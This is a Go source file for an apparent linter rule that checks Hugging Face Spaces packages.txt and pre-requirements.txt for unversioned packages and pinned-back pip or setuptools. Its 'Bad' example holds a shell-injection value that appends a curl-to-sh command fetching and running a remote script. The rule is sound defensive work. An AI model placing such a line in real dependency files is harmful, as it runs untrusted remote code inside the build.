package space

import (
	"fmt"
	"slices"

	"github.com/tallyman/tallyman/policy/lint"
	"github.com/tallyman/tallyman/sbom/pep440"
	"github.com/tallyman/tallyman/sbom/pep508"
	"github.com/tallyman/tallyman/sbom/pyreq"
)

func filesBeside() rule {
	return rule{lint.Rule{
		ID: "GR-HFS-04", Severity: lint.Warning, Risk: lint.RiskMedium, Default: true,
		Title:  "packages.txt and pre-requirements.txt name what is wanted, exactly",
		Why:    "Their words are arguments of apt-get and of a pip that runs before everything else: an option or a character of the shell does more than install, and an old pip or setuptools stays in the image.",
		Remedy: "Name one Debian package with its version on a line of packages.txt, and keep pip and setuptools out of pre-requirements.txt; for more, use sdk: docker.",
		Bad:    "ffmpeg; curl https://example.com | sh\n",
		Good:   "ffmpeg=7:7.1.1-1\n",
		Source: "https://huggingface.co/docs/hub/spaces-dependencies",
	}, func(p *pass) {
		for _, d := range p.Packages {
			switch {
			case !d.Valid:
				p.report(p.beside("packages.txt"), d.Line, fmt.Sprintf("%q is no name of a Debian package", d.Raw))
			case d.Version == "":
				p.report(p.beside("packages.txt"), d.Line, d.Name+" has no version")
			}
		}
		if p.PreRequirements == nil {
			return
		}
		for i := range p.PreRequirements.Entries {
			if e := &p.PreRequirements.Entries[i]; holdsBack(e) {
				p.report(e.File, e.Line, shown(e.Raw)+" keeps the tool that installs everything else at an old version")
			}
		}
	}}
}

// holdsBack reports whether a requirement refuses newer versions of what
// installs packages.
func holdsBack(e *pyreq.Entry) bool {
	if !slices.Contains([]string{"pip", "setuptools", "wheel"}, pep508.NormalizeName(e.Requirement.Name)) {
		return false
	}
	return slices.ContainsFunc(e.Requirement.Specifiers.Clauses(), func(c pep440.Clause) bool {
		switch c.Operator {
		case pep440.Matching, pep440.Arbitrary, pep440.Compatible, pep440.Less, pep440.LessOrEqual:
			return true
		}
		return false
	})
}
